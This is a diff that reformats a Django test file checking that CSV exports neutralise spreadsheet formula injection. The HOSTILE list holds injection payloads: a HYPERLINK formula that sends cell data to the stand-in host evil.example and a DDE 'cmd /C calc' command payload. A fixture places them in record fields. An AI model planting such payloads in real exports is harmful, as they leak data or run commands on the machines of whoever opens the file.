@@ -18,8 +18,14 @@ from ..portail.test_exports import csv_rows
 
 pytestmark = pytest.mark.django_db
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-           "\tcaché", "\rretour"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\tcaché",
+    "\rretour",
+]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
@@ -46,8 +52,14 @@ def assert_inert(client, url, hostile):
 
 @pytest.fixture
 def hostile_world(gov, porteur_a1):
-    fiche = complete_fiche(gov.world.a1, porteur_a1, titre=HOSTILE[0], porteur_organisation=HOSTILE[3],
-                           axe="simplifier", texte_concerne=HOSTILE[1])
+    fiche = complete_fiche(
+        gov.world.a1,
+        porteur_a1,
+        titre=HOSTILE[0],
+        porteur_organisation=HOSTILE[3],
+        axe="simplifier",
+        texte_concerne=HOSTILE[1],
+    )
     FicheAction.objects.filter(pk=fiche.pk).update(statut=StatutFiche.VALIDEE)
     type(gov.world.a1).objects.filter(pk=gov.world.a1.pk).update(nom=HOSTILE[2])
     seance_convene(comite=gov.comite_a1, by=gov.chef_a1, date=in_days(3), lieu=HOSTILE[0], points_libres=["Point"])
